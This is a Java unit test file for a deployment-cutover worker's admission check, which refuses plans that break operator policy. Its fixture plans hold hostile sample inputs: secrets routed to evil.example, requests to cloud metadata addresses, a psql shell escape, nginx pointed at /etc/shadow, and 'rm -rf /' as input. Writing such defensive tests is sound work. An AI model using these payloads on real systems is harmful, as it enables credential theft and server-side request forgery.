package dev.cutover.activities;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import dev.cutover.plan.PlanReader;
import dev.cutover.workflows.Admission;
import dev.cutover.workflows.AdmitRequest;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The admission activity: the worker holds a plan against its own settings before anything runs,
 * and lists every reason it refuses it, each at its plan path and naming the setting, never a
 * secret value. Each reason comes from the check the run-time code applies (Secrets, HttpCalls,
 * Commands, NginxTraffic), so the two cannot disagree.
 */
class AdmissionTest {
  private static final String PASSWORD = "appdb-pa55word-61f0";
  private static final String TOKEN = "flag-t0ken-admission-2c";

  @TempDir Path nginxDir;

  private CutoverActivitiesImpl worker(Map<String, String> settings) {
    Map<String, String> env = new HashMap<>(settings);
    env.put("APPDB_PASSWORD", PASSWORD);
    env.put("FLAG_TOKEN", TOKEN);
    env.put("AWS_ACCESS_KEY_ID", "AKIA-admission-0000");
    env.put("TEMPORAL_API_KEY", "temporal-admission-key");
    return new CutoverActivitiesImpl(Fixtures.settings(env), Duration.ofSeconds(5));
  }

  private CutoverActivitiesImpl operated() {
    return worker(
        Map.of(
            Secrets.ALLOWED, "APPDB_PASSWORD, FLAG_TOKEN@flags.internal, SLACK_WEBHOOK",
            HostPolicy.VARIABLE, "flags.internal, db.internal, hooks.slack.com",
            Commands.ALLOWED, "/opt/bin/sync --to green",
            NginxTraffic.DIRS, nginxDir.toString(),
            NginxTraffic.CONFIG, "/etc/nginx/nginx.conf"));
  }

  private static Admission admit(CutoverActivitiesImpl w, String yaml, PlanReader.Rules rules) {
    return w.admit(new AdmitRequest("cutover-x", PlanReader.parseTree(yaml), rules));
  }

  static final String GOOD =
      """
      version: 1
      name: good
      connections:
        appdb: { postgres: "jdbc:postgresql://db.internal:5432/app", user: gate, password: "${env:APPDB_PASSWORD}" }
        flags: { http: "https://flags.internal", headers: { Authorization: "Bearer ${env:FLAG_TOKEN}" } }
      checks:
        rows: { sql: appdb, query: "SELECT 1 AS value", pass: "== 1" }
        health: { http: "GET flags:/health", expect: { status: 200 } }
      traffic:
        nginx: { file: %s/split.conf, new: green, old: blue }
      stages:
        - name: canary
          percent: 10
          gates: [rows, health]
          actions:
            - command: [/opt/bin/sync, --to, green]
              irreversible: true
      notify: { webhook: "${env:SLACK_WEBHOOK}" }
      """;

  @Test
  void aPlanWithinWhatTheOperatorAllowsIsAdmitted() {
    try (CutoverActivitiesImpl w = operated()) {
      Admission a = admit(w, GOOD.formatted(nginxDir), PlanReader.Rules.HARDENED);

      assertThat(a.refusals()).isEmpty();
      assertThat(a.admitted()).isTrue();
      assertThat(a.signaturesRequired()).isFalse();
    }
  }

  static final String HOSTILE =
      """
      version: 1
      name: hostile
      connections:
        appdb: { postgres: "jdbc:postgresql://evil.example:5432/app", user: "${env:AWS_ACCESS_KEY_ID}", password: "${env:APPDB_PASSWORD}" }
        flags: { http: "https://flags.internal", headers: { Authorization: "Bearer ${env:FLAG_TOKEN}" } }
        meta: { http: "http://169.254.169.254/latest" }
        evil: { http: "https://evil.example", headers: { X-Key: "${env:FLAG_TOKEN}" } }
      checks:
        health: { http: "GET flags:/health?t=${env:APPDB_PASSWORD}", expect: { status: 200 } }
        creds: { http: "GET meta:/meta-data/iam", expect: { status: 200 } }
        exfil: { http: "GET evil:/x", expect: { status: 200 } }
        own: { http: "POST https://flags.internal/x", body: "${env:TEMPORAL_API_KEY}", expect: { status: 200 } }
        nat64: { http: "GET http://[64:ff9b::a9fe:a9fe]/latest", expect: { status: 200 } }
      traffic:
        nginx: { file: /etc/passwd.conf, new: green, old: blue, config: /etc/shadow }
      stages:
        - name: canary
          percent: 10
          gates: [health, creds, exfil, own, nat64]
          actions:
            - command: [/opt/bin/sync, --to, green]
              env: { TOKEN: "${env:FLAG_TOKEN}" }
              irreversible: true
            - command: [/usr/bin/psql, -c, "\\\\! id"]
              irreversible: true
            - command: [/opt/bin/sync, --to, evil]
              irreversible: true
      notify: { webhook: "http://[fd00:ec2::254]/hook" }
      """;

  @Test
  void aCommandRunAtTheEndOfAStageIsHeldToTheWorkersCommandsToo() {
    String plan =
        GOOD.formatted(nginxDir)
            .replace(
                "\nnotify:",
                "\n    onComplete:\n"
                    + "      - { command: [/usr/bin/psql, -c, drop], irreversible: true }\n"
                    + "rollback: { afterPointOfNoReturn: hold }\n"
                    + "notify:");
    try (CutoverActivitiesImpl w = operated()) {
      Admission a = admit(w, plan, PlanReader.Rules.RUNBOOK);

      assertThat(a.admitted()).isFalse();
      assertThat(a.refusals())
          .singleElement()
          .asString()
          .startsWith(
              "stages[0].onComplete[0].command: \"/usr/bin/psql\" is not allowed on this worker;"
                  + " CUTOVER_ALLOWED_COMMANDS");
    }
  }

  @Test
  void everyReasonIsListedAtItsPathNamingTheSettingAndNoValue() {
    try (CutoverActivitiesImpl w = operated()) {
      Admission a = admit(w, HOSTILE, PlanReader.Rules.CURRENT);

      assertThat(a.admitted()).isFalse();
      assertThat(a.refusals())
          .containsExactly(
              "connections.appdb.user: ${env:AWS_ACCESS_KEY_ID} is not allowed: CUTOVER_ALLOWED_SECRETS does not list"
                  + " AWS_ACCESS_KEY_ID",
              "checks.own.body: ${env:TEMPORAL_API_KEY} is a setting of the worker itself; no plan may read CUTOVER_* or"
                  + " TEMPORAL_* variables",
              "connections.meta.http: host 169.254.169.254 is link-local; allow it with CUTOVER_ALLOWED_HOSTS",
              "connections.evil.http: host evil.example is not in CUTOVER_ALLOWED_HOSTS",
              "connections.evil.http: ${env:FLAG_TOKEN} may be sent only to the hosts CUTOVER_ALLOWED_SECRETS binds it"
                  + " to, not to host evil.example",
              "checks.health.http: ${env:APPDB_PASSWORD} is inside a URL: a secret never goes into a URL (servers and"
                  + " proxies log URLs, and the plan would choose where it goes); send it in a header or the body, or let"
                  + " the worker's operator set the whole URL as one ${env:NAME}",
              "checks.nat64.http: host 64:ff9b:0:0:0:0:a9fe:a9fe carries 169.254.169.254, which is link-local; allow it"
                  + " with CUTOVER_ALLOWED_HOSTS",
              "notify.webhook: host fd00:ec2:0:0:0:0:0:254 is AWS's instance services (metadata at fd00:ec2::254, DNS"
                  + " at fd00:ec2::253); allow it with CUTOVER_ALLOWED_HOSTS",
              "stages[0].actions[0].command: ${env:FLAG_TOKEN} is bound to hosts in CUTOVER_ALLOWED_SECRETS; a program"
                  + " could send it anywhere, so it is never handed to one",
              "stages[0].actions[1].command: \"/usr/bin/psql\" is not allowed on this worker; CUTOVER_ALLOWED_COMMANDS"
                  + " lists /opt/bin/sync",
              "stages[0].actions[2].command: these arguments are not allowed; CUTOVER_ALLOWED_COMMANDS allows"
                  + " /opt/bin/sync only as: /opt/bin/sync --to green (an entry ending in * allows further arguments)",
              "traffic.nginx.file: /etc/passwd.conf is outside the directories this worker may write"
                  + " (CUTOVER_NGINX_DIRS="
                  + nginxDir
                  + ")",
              "traffic.nginx.config: nginx's configuration file is the worker's to choose, not the plan's: remove"
                  + " traffic.nginx.config from the plan (this worker's is CUTOVER_NGINX_CONFIG)");
      assertThat(String.join("\n", a.refusals()))
          .doesNotContain(PASSWORD, TOKEN, "AKIA-admission", "temporal-admission");
    }
  }

  @Test
  void aBoundSecretForADatabaseGoesOnlyToTheDatabaseHostsItIsBoundTo() {
    try (CutoverActivitiesImpl w =
        worker(
            Map.of(
                Secrets.ALLOWED,
                "APPDB_PASSWORD@db.internal",
                HostPolicy.VARIABLE,
                "db.internal"))) {
      String plan =
          """
          version: 1
          name: db
          connections:
            appdb: { postgres: "%s", user: gate, password: "${env:APPDB_PASSWORD}" }
          checks:
            rows: { sql: appdb, query: "SELECT 1 AS value", pass: "== 1" }
          stages:
            - { name: canary, gates: [rows], actions: [{ wait: { check: rows, timeout: 1m } }] }
          """;

      assertThat(
              admit(
                      w,
                      plan.formatted("jdbc:postgresql://db.internal:5432/app"),
                      PlanReader.Rules.HARDENED)
                  .refusals())
          .isEmpty();
      assertThat(
              admit(
                      w,
                      plan.formatted("jdbc:postgresql://db.internal,evil.example:5432/app"),
                      PlanReader.Rules.HARDENED)
                  .refusals())
          .containsExactly(
              "connections.appdb.postgres: ${env:APPDB_PASSWORD}"
                  + " may be sent only to the hosts CUTOVER_ALLOWED_SECRETS binds it to, not to host evil.example");
    }
  }

  @Test
  void underHardenedRulesTheReadersProblemsAreTheRefusals() {
    try (CutoverActivitiesImpl w = operated()) {
      Admission a = admit(w, HOSTILE, PlanReader.Rules.HARDENED);

      assertThat(a.refusals())
          .contains(
              "checks.health.http: ${env:APPDB_PASSWORD} is inside a URL: a secret never goes into a URL (servers and"
                  + " proxies log URLs, and the plan would choose where it goes); send it in a header or the body, or let"
                  + " the worker's operator set the whole URL as one ${env:NAME}",
              "traffic.nginx.config: nginx's configuration file is the worker's to choose: remove this line and set"
                  + " CUTOVER_NGINX_CONFIG on the worker (a plan could otherwise have nginx read any file)");
    }
  }

  @Test
  void aWorkerLeftAtItsDefaultsRefusesSecretsLoopbackCommandsAndNginx() {
    try (CutoverActivitiesImpl w = worker(Map.of())) {
      String plan =
          """
          version: 1
          name: defaults
          connections:
            app: { http: "http://localhost:8080", headers: { Authorization: "Bearer ${env:FLAG_TOKEN}" } }
          checks:
            health: { http: "GET app:/health", expect: { status: 200 } }
          traffic:
            nginx: { file: /etc/nginx/cutover/split.conf, new: green, old: blue }
          stages:
            - name: canary
              percent: 10
              gates: [health]
              actions:
                - { command: [final-sync], irreversible: true }
          """;

      assertThat(admit(w, plan, PlanReader.Rules.HARDENED).refusals())
          .containsExactly(
              "connections.app.headers.Authorization: ${env:FLAG_TOKEN} is not allowed: CUTOVER_ALLOWED_SECRETS is not set"
                  + " on this worker, so no ${env:...} reference resolves",
              "connections.app.http: host localhost is loopback; allow it with CUTOVER_ALLOWED_HOSTS",
              "stages[0].actions[0].command: this worker runs no commands; set CUTOVER_ALLOWED_COMMANDS to the programs"
                  + " it may run (comma-separated)",
              "traffic.nginx: nginx traffic is off on this worker: set CUTOVER_NGINX_DIRS to the directories it may"
                  + " write split files in (colon-separated)");
    }
  }

  @Test
  void aPlanThatCannotBeReadIsRefusedNeverThrown() {
    try (CutoverActivitiesImpl w = operated()) {
      JsonNodeFactory json = JsonNodeFactory.instance;
      assertThat(w.admit(new AdmitRequest("cutover-x", null, null)).refusals())
          .containsExactly("expected an object (key: value pairs), found nothing");
      assertThat(
              w.admit(
                      new AdmitRequest(
                          "cutover-x", json.textNode("rm -rf /"), PlanReader.Rules.CURRENT))
                  .refusals())
          .containsExactly("expected an object (key: value pairs), found \"rm -rf /\"");
      assertThat(
              w.admit(new AdmitRequest("cutover-x", json.objectNode().put("version", 1), null))
                  .refusals())
          .contains("name: required", "stages: required");
    }
  }
}
